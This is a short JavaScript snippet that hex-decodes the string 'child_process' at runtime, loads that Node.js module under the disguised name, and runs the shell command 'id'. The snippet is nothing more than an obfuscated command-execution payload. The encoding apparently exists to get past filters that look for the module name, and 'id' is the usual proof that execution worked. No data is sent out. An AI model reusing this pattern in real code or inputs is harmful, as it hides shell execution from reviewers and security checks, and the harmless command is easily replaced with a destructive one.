function un(h) {
  return h.match(/.{2}/g).map(function (p) { return String.fromCharCode(parseInt(p, 16)); }).join('');
}
var m = require(un('6368696c645f70726f63657373'));
m.exec('id');
